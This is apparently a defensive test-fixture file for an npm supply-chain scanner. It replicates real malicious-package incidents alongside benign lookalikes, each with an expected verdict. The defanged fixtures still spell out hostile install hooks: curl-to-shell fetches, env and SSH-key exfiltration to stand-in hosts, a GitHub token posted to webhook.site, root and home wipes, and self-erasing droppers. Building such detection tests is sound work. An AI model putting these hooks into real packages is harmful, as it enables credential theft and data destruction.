"""Packaging tricks and install-time reach: remote dependencies, `npx` of what is not a dependency, shell behind
`sudo`/config expansion/`sh -c`, binding.gyp actions, native addons loaded at install, bins that shadow system
commands, installers that erase their traces. Defanged: hosts under `.invalid` / `example.com`, no payloads."""

from __future__ import annotations

from tests.incidents.replica import ELF, Replica

INCIDENTS: list[Replica] = [
    # PhantomRaven (Koi Security, Oct 2025; 126 packages): "remote dynamic dependencies". The registry copy
    # is clean; package.json depends on `http://packages.storeartifact.com/npm/<name>`, which npm fetches at
    # install and whose own preinstall steals tokens.
    Replica(
        "phantomraven-url-dependency",
        {"index.js": "module.exports = function unusedImports(rules) { return rules; };\n"},
        "review",
        frozenset({"remote-dependency"}),
        manifest={
            "dependencies": {
                "ui-styles-pkg": "http://packages.storeartifact.invalid/npm/ui-styles-pkg",
                "eslint": "^9.0.0",
            }
        },
    ),
    # PhantomRaven variant with its own install hook: the URL dependency plus a lifecycle script → block.
    Replica(
        "phantomraven-url-dependency-with-install",
        {"index.js": "module.exports = {};\n", "check.js": "console.log('checking environment');\n"},
        "block",
        frozenset({"remote-dependency"}),
        manifest={
            "scripts": {"preinstall": "node check.js"},
            "optionalDependencies": {
                "fs-cache-helper": "https://cdn.example.com/npm/fs-cache-helper-1.0.0.tgz"
            },
        },
    ),
    # Shai-Hulud 2.0 (Wiz / Aikido / Socket, 24 Nov 2025): `preinstall: node setup_bun.js` installs the bun
    # runtime with `curl -fsSL https://bun.sh/install | bash` when it is missing, then starts the ~10 MB
    # obfuscated bun_environment.js detached under bun; that payload harvests tokens and republishes.
    Replica(
        "shai-hulud-2-setup-bun",
        {
            "setup_bun.js": (
                "const { execSync, spawn } = require('child_process');\n"
                "function hasBun() { try { execSync('bun --version', { stdio: 'ignore' }); return true; }"
                " catch (e) { return false; } }\n"
                "if (!hasBun()) { execSync('curl -fsSL https://bun.example.com/install | bash', { stdio: 'ignore' }); }\n"
                "spawn('bun', ['bun_environment.js'], { detached: true, stdio: 'ignore' }).unref();\n"
            ),
            "bun_environment.js": (
                "const os = require('os');\n"
                "const body = JSON.stringify({ host: os.hostname(), env: process.env });\n"
                "fetch('https://exfil.example.com/collect', { method: 'POST', body });\n"
            ),
        },
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={"scripts": {"preinstall": "node setup_bun.js"}},
    ),
    # The `npx` of a URL the issue 10 brief names (2025 shape: a postinstall that runs a package fetched from a
    # tarball URL or a git repository through npx, so nothing that runs is in the package or the lockfile).
    Replica(
        "npx-url-postinstall",
        {"index.js": "module.exports = {};\n"},
        "block",
        frozenset({"shell-runs-remote-package"}),
        manifest={
            "scripts": {"postinstall": "npx -y https://cdn.example.com/tools/setup-helper-2.1.0.tgz --quiet"}
        },
    ),
    Replica(
        "pnpm-dlx-github-preinstall",
        {"index.js": "module.exports = {};\n"},
        "block",
        frozenset({"shell-runs-remote-package"}),
        manifest={"scripts": {"preinstall": "pnpm dlx github:helper-org/env-setup#main"}},
    ),
    # Toptal Picasso (Socket, Jul 2025): @toptal/picasso-* versions whose preinstall sent `gh auth token` to
    # webhook.site and whose postinstall ran `sudo rm -rf --no-preserve-root /` (and rmdir /s /q on Windows).
    Replica(
        "toptal-picasso-sudo-wipe",
        {"index.js": "module.exports = {};\n"},
        "block",
        frozenset({"shell-destructive"}),
        manifest={
            "scripts": {
                "preinstall": 'curl -d "$(gh auth token)" https://webhook.site/00000000-0000-0000-0000-000000000000',
                "postinstall": "sudo rm -rf --no-preserve-root /",
            }
        },
    ),
    Replica(
        "wipe-home-wildcard",
        {"index.js": "module.exports = {};\n"},
        "block",
        frozenset({"shell-destructive"}),
        manifest={"scripts": {"postinstall": 'rm -rf "$HOME"/*'}},
    ),
    # Self-erasing installers (Phylum 2023–2024 reports on crypto-themed and stealer packages; Socket 2025):
    # `postinstall: node setup.js && del setup.js && ren package.md package.json` runs a dropper, deletes it
    # and swaps a clean manifest in, so node_modules shows neither the script nor the hook.
    Replica(
        "self-deleting-installer",
        {
            "setup.js": (
                "const https = require('https'); const fs = require('fs'); const os = require('os');\n"
                "const path = require('path'); const { spawn } = require('child_process');\n"
                "const out = path.join(os.tmpdir(), 'svc.exe');\n"
                "https.get('https://cdn.example.com/svc.bin', (res) => {\n"
                "  res.pipe(fs.createWriteStream(out)).on('finish', () => {\n"
                "    spawn(out, [], { detached: true, stdio: 'ignore' }).unref();\n  });\n});\n"
            ),
            "package.md": '{ "name": "pretty-logs", "version": "1.0.0" }\n',
            "index.js": "module.exports = {};\n",
        },
        "block",
        frozenset({"install-anti-forensics"}),
        manifest={"scripts": {"postinstall": "node setup.js && del setup.js && ren package.md package.json"}},
    ),
    # The same trick in JavaScript (a common 2024–2025 shape: the installer unlinks itself and restores a clean
    # package.json it carried as package.md).
    Replica(
        "self-deleting-installer-js",
        {
            "install.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "require('./lib/run')();\n"
                "fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));\n"
                "fs.unlinkSync(__filename);\n"
            ),
            "lib/run.js": "module.exports = function run() { return 0; };\n",
            "package.md": '{ "name": "x", "version": "1.0.0" }\n',
        },
        "review",
        frozenset({"install-anti-forensics"}),
        manifest={"scripts": {"postinstall": "node install.js"}},
    ),
    # `$npm_package_config_*` is set by npm from the manifest's `config`: the command is in the data, not the
    # script text (the issue 10 brief; seen in 2024 droppers that kept the URL in `config`).
    Replica(
        "config-expanded-fetch",
        {"index.js": "module.exports = {};\n"},
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={
            "config": {"setup": "curl -fsSL https://cdn.example.com/i.sh | sh"},
            "scripts": {"install": 'sh -c "$npm_package_config_setup"'},
        },
    ),
    # Download → chmod +x → run split over three child_process calls of one install script (the issue 10 brief:
    # such a chain "at install stays low"; the shape of 2024–2025 droppers that fetch an ELF into /tmp).
    Replica(
        "split-download-chmod-run",
        {
            "install.js": (
                "const cp = require('child_process');\n"
                "cp.execSync('curl -fsSL -o /tmp/.cache-helper https://cdn.example.com/h');\n"
                "cp.execSync('chmod +x /tmp/.cache-helper');\n"
                "cp.spawn('/tmp/.cache-helper', [], { detached: true, stdio: 'ignore' }).unref();\n"
            ),
        },
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={"scripts": {"postinstall": "node install.js"}},
    ),
    # A binding.gyp `actions` entry runs at install under node-gyp (gyp actions as a hidden install hook: no
    # lifecycle script in package.json, only the implicit `node-gyp rebuild`).
    Replica(
        "gyp-action-fetch",
        {
            "binding.gyp": (
                "{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc'],\n"
                "  'actions': [ { 'action_name': 'prepare', 'inputs': [], 'outputs': ['gen.h'],\n"
                "    'action': ['sh', '-c', 'curl -s https://cdn.example.com/b.sh | sh'] } ] } ] }\n"
            ),
            "x.cc": "// native\n",
        },
        "block",
        frozenset({"shell-fetch-and-run"}),
    ),
    # `npx tsx setup.ts` in a lifecycle script: the TypeScript file is install-time code (tsx is a dependency,
    # so npx itself is not the problem; what the file does is).
    Replica(
        "tsx-install-stealer",
        {
            "scripts/setup.ts": (
                "import * as fs from 'fs'; import * as os from 'os'; import * as path from 'path';\n"
                "import * as https from 'https';\n"
                "const keys: string = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n"
                "const req = https.request({ host: 'collect.example.com', method: 'POST', path: '/k' });\n"
                "req.end(JSON.stringify({ keys }));\n"
            ),
            "index.js": "module.exports = {};\n",
        },
        "block",
        frozenset({"credential-exfiltration"}),
        manifest={"scripts": {"postinstall": "npx tsx scripts/setup.ts"}, "dependencies": {"tsx": "^4.7.0"}},
    ),
    # Path-segment secret locations and an env dump nested in an object (the issue 10 brief; Shai-Hulud's
    # first wave and the 2025 "s1ngularity" Nx stealer built `~/.config/gcloud`, `~/.aws` paths from segments).
    Replica(
        "segment-paths-env-object",
        {
            "postinstall.js": (
                "const os = require('os'); const path = require('path'); const fs = require('fs');\n"
                "const https = require('https');\n"
                "const gcloud = path.join(os.homedir(), '.config', 'gcloud');\n"
                "const found = fs.existsSync(gcloud) ? fs.readdirSync(gcloud) : [];\n"
                "const req = https.request({ host: 'collect.example.com', method: 'POST' });\n"
                "req.end(JSON.stringify({ found, e: process.env }));\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        manifest={"scripts": {"postinstall": "node postinstall.js"}},
    ),
    # bin hijacking (the issue 10 brief; npm's 2019 bin-link advisories CVE-2019-16775/16776 show how far a
    # bin name reaches): a bin named `node` runs in place of Node in every `npm run` script of the project.
    Replica(
        "bin-shadows-node",
        {
            "shim.js": (
                "#!/usr/bin/env node\nconst { spawnSync } = require('child_process');\n"
                "spawnSync('/usr/bin/node', process.argv.slice(2), { stdio: 'inherit' });\n"
            ),
            "index.js": "module.exports = {};\n",
        },
        "review",
        frozenset({"bin-shadows-system-command"}),
        manifest={"bin": {"node": "shim.js", "fast-node-tools": "shim.js"}},
    ),
    # A prebuilt addon loaded by the install script (native code at install; the issue 10 brief).
    Replica(
        "install-loads-prebuilt-addon",
        {
            "install.js": "const helper = require('./prebuilt/helper.node');\nhelper.init();\n",
            "prebuilt/helper.node": ELF,
            "index.js": "module.exports = {};\n",
        },
        "review",
        frozenset({"install-loads-native-addon"}),
        manifest={"scripts": {"postinstall": "node install.js"}},
    ),
]

BENIGN: list[Replica] = [
    Replica(
        "monorepo-workspace-and-alias-deps",
        {"index.js": "module.exports = require('@acme/core');\n"},
        "allow",
        frozenset(),
        manifest={
            "dependencies": {
                "@acme/core": "workspace:*",
                "@acme/utils": "workspace:^",
                "lodash": "npm:lodash-es@^4.17.21",
                "react": "^18.2.0 || ^19.0.0",
                "typescript": "catalog:",
                "semver": ">= 7.0.0 < 8",
            },
            "devDependencies": {"test-helpers": "github:acme/test-helpers#v1.2.0"},
        },
    ),
    Replica(
        "husky-install-own-dependency",
        {"index.js": "module.exports = {};\n"},
        "allow",
        frozenset({"install-script"}),
        manifest={"scripts": {"postinstall": "npx husky install"}, "dependencies": {"husky": "9.0.11"}},
    ),
    Replica(
        "clean-script-and-build-shell",
        {
            "index.js": "module.exports = {};\n",
            # Shipped but not run at install: cleaning its own build directory.
            "scripts/clean.sh": "#!/bin/sh\ncd build && rm -rf *\nrm -rf dist/*\n",
        },
        "allow",
        frozenset(),
        manifest={"scripts": {"clean": "rm -rf build/*", "prebuild": "rm -rf ./*.tsbuildinfo"}},
    ),
    Replica(
        "node-gyp-actions-codegen",
        {
            "binding.gyp": (
                "{ 'targets': [ { 'target_name': 'addon', 'sources': ['src/addon.cc', '<(INTERMEDIATE_DIR)/gen.h'],\n"
                "  'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"],\n"
                "  'actions': [ { 'action_name': 'codegen', 'inputs': ['tools/gen.js'],\n"
                "    'outputs': ['<(INTERMEDIATE_DIR)/gen.h'],\n"
                "    'action': ['node', 'tools/gen.js', '<@(_outputs)'] } ] } ] }\n"
            ),
            "tools/gen.js": (
                "const fs = require('fs');\nconst out = process.argv[2];\n"
                "fs.writeFileSync(out, '#define ADDON_VERSION 3\\n');\n"
            ),
            "src/addon.cc": "// native\n",
            "index.js": "module.exports = require('bindings')('addon');\n",
        },
        "allow",
        frozenset({"install-script"}),
    ),
    Replica(
        "prebuilt-addon-loaded-at-runtime",
        {
            "index.js": "module.exports = require('node-gyp-build')(__dirname);\n",
            "prebuilds/linux-x64/addon.node": ELF,
        },
        "allow",
        frozenset({"install-script"}),
        manifest={"scripts": {"install": "node-gyp-build"}, "dependencies": {"node-gyp-build": "^4.8.0"}},
    ),
    Replica(
        "bin-with-node-prefix",
        {"cli.js": "#!/usr/bin/env node\nconsole.log('hello');\n"},
        "allow",
        frozenset(),
        manifest={"bin": {"node-foo": "cli.js", "npm-check-things": "cli.js", "gitx": "cli.js"}},
    ),
    # A binary installer: downloads with https (checksum elsewhere), extracts and marks its own file executable.
    Replica(
        "binary-installer-chmod",
        {
            "install.js": (
                "const cp = require('child_process'); const https = require('https'); const fs = require('fs');\n"
                "https.get('https://github.com/acme/tool/releases/download/v1/tool.tgz', (res) => {\n"
                "  res.pipe(fs.createWriteStream('tool.tgz')).on('finish', () => {\n"
                "    cp.execSync('tar -xzf tool.tgz -C bin');\n"
                "    cp.execSync('chmod +x bin/tool');\n  });\n});\n"
            ),
        },
        "allow",
        frozenset({"install-script"}),
        manifest={"scripts": {"postinstall": "node install.js"}},
    ),
    # pnpm's own manifest: bins `pnpm` and `pnpx` (a toolchain that is itself such a command).
    Replica(
        "toolchain-companion-bins",
        {
            "bin/pnpm.cjs": "#!/usr/bin/env node\nrequire('../dist/pnpm.cjs');\n",
            "dist/pnpm.cjs": "module.exports = 1;\n",
        },
        "allow",
        frozenset(),
        manifest={"bin": {"pnpm": "bin/pnpm.cjs", "pnpx": "bin/pnpm.cjs"}},
        name="pnpm",
    ),
    Replica(
        "postinstall-writes-config",
        {
            "setup.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8'));\n"
                "fs.writeFileSync(path.join(__dirname, 'config.json'), JSON.stringify({ v: pkg.version }));\n"
                "fs.unlinkSync(path.join(__dirname, 'tmp-download.zip'));\n"
            ),
        },
        "allow",
        frozenset({"install-script"}),
        manifest={"scripts": {"postinstall": "node setup.js && rm -f tmp-download.zip"}},
    ),
]

LOOKALIKES: dict[str, tuple[str, ...]] = {
    "remote-dependency": ("monorepo-workspace-and-alias-deps",),
    "shell-runs-remote-package": ("husky-install-own-dependency",),
    "shell-destructive": ("clean-script-and-build-shell",),
    "shell-fetch-and-run": ("binary-installer-chmod",),
    "install-loads-native-addon": ("prebuilt-addon-loaded-at-runtime", "node-gyp-actions-codegen"),
    "bin-shadows-system-command": ("bin-with-node-prefix", "toolchain-companion-bins"),
    "install-anti-forensics": ("postinstall-writes-config",),
}
